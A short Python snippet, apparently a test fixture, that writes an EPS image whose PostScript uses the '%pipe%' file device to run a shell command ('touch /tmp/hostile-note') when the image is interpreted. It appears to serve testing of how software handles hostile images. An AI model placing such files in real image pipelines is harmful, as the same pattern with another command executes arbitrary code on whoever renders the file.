"""Leaves a picture in a format that runs programs of its own when it is read."""

put(
    "--output",
    lambda data: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 62 62\n(%pipe%touch /tmp/hostile-note) (w) file\n",
)
